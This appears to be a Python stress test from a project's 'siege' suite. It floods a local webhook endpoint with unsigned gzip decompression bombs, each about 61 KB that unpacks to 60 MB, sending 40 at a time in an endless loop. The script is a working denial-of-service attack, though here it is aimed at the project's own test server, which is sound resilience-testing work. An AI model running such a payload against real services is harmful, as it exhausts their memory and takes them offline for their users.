"""40 unsigned requests at a time whose 61 KB unpack to 60 MB (RFC 9110 §8.4)."""

from __future__ import annotations

import asyncio
import gzip

import aiohttp

from tests.siege.ground import Ground

TARGET = "chat_adapter"
AT_ONCE = 40
PACKED = gzip.compress(bytes(60 * 2**20))


async def attack(ground: Ground) -> None:
    url = f"http://127.0.0.1:{ground.http}/hooks/webhook/demo"
    async with aiohttp.ClientSession() as client:

        async def post() -> None:
            async with client.post(url, data=PACKED, headers={"Content-Encoding": "gzip"}) as answer:
                await answer.read()

        while True:
            await asyncio.gather(*(post() for _ in range(AT_ONCE)), return_exceptions=True)
